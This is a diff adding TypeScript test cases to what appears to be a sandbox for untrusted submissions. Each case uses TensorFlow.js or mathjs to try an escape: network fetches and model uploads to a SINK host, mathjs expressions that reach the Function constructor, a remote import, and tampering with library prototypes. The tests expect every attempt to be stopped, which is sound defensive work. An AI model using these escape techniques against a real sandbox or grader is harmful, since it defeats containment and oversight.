@@ -797,6 +797,87 @@ JSON.stringify = () => '"n"'; (Object.prototype as any).toJSON = () => 'n'; (Obj
   },
 ];
 
+/** A submission that imports a library and tries one thing with it. */
+const withLibrary = (name: string, attempt: string): Case => ({
+  group: 'libraries',
+  name,
+  as: 'submission',
+  code: honest(
+    {},
+    `import * as tf from '@tensorflow/tfjs'; import * as math from 'mathjs';
+     try { await (${attempt}); console.log('reached'); } catch (error) { console.log('stopped: ' + error.name); }`,
+  ),
+  ends: ['passed'],
+  says: /^stopped: /,
+});
+
+/** Run where both libraries may be imported. */
+export const LIBRARY_CASES: readonly Case[] = [
+  withLibrary('TensorFlow.js asks its platform to fetch', `tf.util.fetch(SINK + '/platform')`),
+  withLibrary(
+    'TensorFlow.js fetches by its global object',
+    `tf.env().global.fetch(SINK + '/global')`,
+  ),
+  withLibrary(
+    'TensorFlow.js loads a model over the network',
+    `tf.io.http(SINK + '/model.json').load()`,
+  ),
+  withLibrary(
+    'TensorFlow.js posts a model to a server',
+    `tf.io.http(SINK + '/model').save({ modelTopology: {} })`,
+  ),
+  withLibrary(
+    'TensorFlow.js offers a model for download',
+    `tf.io.browserDownloads('model').save({ modelTopology: {} })`,
+  ),
+  withLibrary(
+    'TensorFlow.js copies a stored model',
+    `tf.io.copyModel('localstorage://a', 'indexeddb://b')`,
+  ),
+  withLibrary(
+    'TensorFlow.js draws on a canvas',
+    `tf.browser.draw(tf.zeros([2, 2]), document.createElement('canvas'))`,
+  ),
+  withLibrary(
+    'TensorFlow.js brings a platform of the attacker’s own',
+    `(() => { tf.env().setPlatform('mine', { fetch: (...a) => fetch(...a) }); return tf.util.fetch(SINK + '/mine'); })()`,
+  ),
+  withLibrary(
+    'an expression of mathjs makes a function of a text',
+    `math.evaluate('cos.constructor("return 1")()')`,
+  ),
+  withLibrary(
+    'an expression of mathjs reaches a function’s constructor by a list',
+    `math.evaluate('f(x) = x; {a: f}.a.constructor("return 1")()')`,
+  ),
+  withLibrary('an expression of mathjs imports', `math.evaluate('import({ f: 1 }, {})')`),
+  withLibrary('an expression of mathjs makes a unit over an old one', `math.createUnit('meter')`),
+  withLibrary(
+    'a function of a library gives up its constructor',
+    `math.add.constructor('return 1')() + tf.tidy.constructor('return 1')()`,
+  ),
+  withLibrary(
+    'a library is asked for by its address',
+    `import(math.add.toString().slice(0, 0) + SINK + '/tfjs.js')`,
+  ),
+  {
+    group: 'libraries',
+    name: 'everything in a library is put out of order',
+    as: 'submission',
+    code: honest(
+      {},
+      `import * as tf from '@tensorflow/tfjs'; import * as math from 'mathjs';
+       for (const name of Object.getOwnPropertyNames(tf.Tensor.prototype)) {
+         try { Object.defineProperty(tf.Tensor.prototype, name, { value: () => { throw 0 } }); } catch {}
+       }
+       tf.engine().state.numTensors = -1e9; tf.engine().memory = () => ({ numTensors: 0 });
+       math.config.constructor.prototype.call = () => 0; console.log('done');`,
+    ),
+    ends: ['passed', 'missed', 'crashed'],
+    says: /^done$/,
+  },
+];
+
 export const CASES: readonly Case[] = [
   ...NETWORK,
   ...IMPORTS,
